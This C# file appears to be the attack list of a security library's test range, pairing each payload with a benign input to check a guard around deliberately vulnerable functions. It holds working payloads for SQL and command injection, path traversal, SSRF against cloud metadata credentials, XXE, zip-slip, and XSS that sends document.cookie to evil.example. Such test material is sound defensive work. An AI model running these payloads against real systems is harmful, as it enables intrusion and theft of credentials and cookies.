using System.IO.Compression;
using FunctionShield.Examples.AttackRange.Functions;

namespace FunctionShield.Examples.AttackRange.Attacks;

/// <summary>The whole range, one attack after the other.</summary>
internal static class AttackList
{
    private const string Customer = "O'Brien & Sons; Ltd.";
    private const string Code = "Dictionary<string, List<int>> map = new(); if (a < b && c > 0) { map[\"it's\"].Add(1); }";
    private const string MarkdownTable = "| item | price |\n|------|------:|\n| R&D <beta> | 5 > 4 |\n| O'Brien | `a;b` |";
    private const string Script = "<script>new Image().src='//evil.example/?'+document.cookie</script>";
    private const string Handler = "nice <img src=x onerror=\"fetch('//evil.example/?'+document.cookie)\">";

    // An object's key is a name: it holds no document, though its length would allow one.
    private static readonly Carrier[] CarriersOfDocuments = [Carrier.ApiGatewayV1, Carrier.ApiGatewayV2, Carrier.Sqs, Carrier.DynamoDbStream];

    // Somebody reads the answer.
    private static readonly Carrier[] Http = [Carrier.ApiGatewayV1, Carrier.ApiGatewayV2];

    public static IReadOnlyList<Attack> For(World world)
    {
        string? noShell = File.Exists("/bin/sh") ? null : "no /bin/sh here";
        string entity = $"""<!DOCTYPE invoice [<!ENTITY key SYSTEM "{new Uri(world.SecretFile)}">]><invoice><note>&key;</note></invoice>""";
        return
        [
            new("SQL injection, in a string", Vulnerable.FindCustomer, "x' UNION SELECT name, number FROM cards --", Customer, SeesCard),
            new("SQL injection, in a number", Vulnerable.LookUpCustomer, "0 UNION SELECT name, number FROM cards", "2", SeesCard),
            new("Command injection", Vulnerable.MakeThumbnail, "cat.png\"; touch pwned; echo \"", Customer, RanCommand) { Skipped = noShell },
            new("Command injection, key encoded twice", Vulnerable.MakeThumbnailOfEncoded,
                Uri.EscapeDataString("cat.png\"; touch pwned; echo \""), Uri.EscapeDataString(Customer), RanCommand)
            {
                Carriers = [Carrier.S3],
                Skipped = noShell,
            },
            new("Path traversal", Vulnerable.ReadDocument, "../secrets/api-key.txt", Customer, SeesKey),
            new("Server-side request forgery", Vulnerable.PreviewLink,
                $"http://{InternalService.MetadataHost}/latest/meta-data/iam/security-credentials/app",
                "http://partner.example/search?q=O%27Brien%20%26%20Sons&page=2", SeesCredentials),
            new("Server-side request forgery, in decimal", Vulnerable.PreviewLink,
                "http://2852039166/latest/meta-data/iam/security-credentials/app",
                "http://partner.example:8080/search?q=2852039166", SeesCredentials),
            new("Server-side request forgery, a client with no guard but the hooks", Vulnerable.PreviewLinkUndecorated,
                $"http://{InternalService.MetadataHost}/latest/meta-data/iam/security-credentials/app",
                "http://partner.example/search?q=O%27Brien%20%26%20Sons&page=2", SeesCredentials),
            new("Argument injection", Vulnerable.PrintDocument, "x\" \"../secrets/api-key.txt", Customer, SeesKey)
            {
                Skipped = File.Exists("/bin/cat") ? null : "no /bin/cat here",
            },
            new("Archive entry that leads out", Vulnerable.ImportArchive, Archive("../pwned"), Archive("O'Brien & Sons; Ltd.txt"), RanCommand)
            {
                Carriers = CarriersOfDocuments,
                InBody = true,
            },
            new("XML external entity", Vulnerable.ImportInvoice, entity, "<invoice><note>O'Brien &amp; Sons; Ltd.</note></invoice>", SeesKey)
            {
                Carriers = CarriersOfDocuments,
                InBody = true,
            },
            new("Stored cross-site scripting", Vulnerable.PublishComment, Script, Code, static world => world.Serves(Script))
            {
                Carriers = CarriersOfDocuments,
                InBody = true,
                HasGuard = false,
            },
            new("Stored cross-site scripting, in an attribute", Vulnerable.PublishComment, Handler, MarkdownTable, static world => world.Serves(Handler))
            {
                Carriers = CarriersOfDocuments,
                InBody = true,
                HasGuard = false,
            },
            new("Reflected cross-site scripting", Vulnerable.Greet, Handler, "O'Brien & Sons <beta>; a < b", static world => world.Answered(Handler))
            {
                Carriers = Http,
            },
            new("Stored cross-site scripting, shown again", Vulnerable.ShowBoard, Script, Code, static world => world.Answered(Script))
            {
                Carriers = Http,
                InBody = true,
            },
            new("Secret in a response", Vulnerable.ShowSetting, "AWS_SECRET_ACCESS_KEY", "THEME", static world => world.Answered(World.SecretAccessKey))
            {
                Carriers = Http,
            },
            new("Secret in an error page, URL-encoded", Vulnerable.Fail, "none", "enterprise",
                static world => world.Answered(Uri.EscapeDataString(World.SecretAccessKey)))
            {
                Carriers = Http,
            },
        ];
    }

    private static string Archive(string entry)
    {
        using var archive = new MemoryStream();
        using (var zip = new ZipArchive(archive, ZipArchiveMode.Create, leaveOpen: true))
        {
            using Stream content = zip.CreateEntry(entry).Open();
            content.Write("invoice 17"u8);
        }

        return Convert.ToBase64String(archive.ToArray());
    }

    private static bool SeesCard(World world) => world.Leaked(World.CardNumber);

    private static bool SeesKey(World world) => world.Leaked(World.ApiKey);

    private static bool SeesCredentials(World world) => world.Leaked(InternalService.Credentials);

    private static bool RanCommand(World world) => world.CommandRan;
}
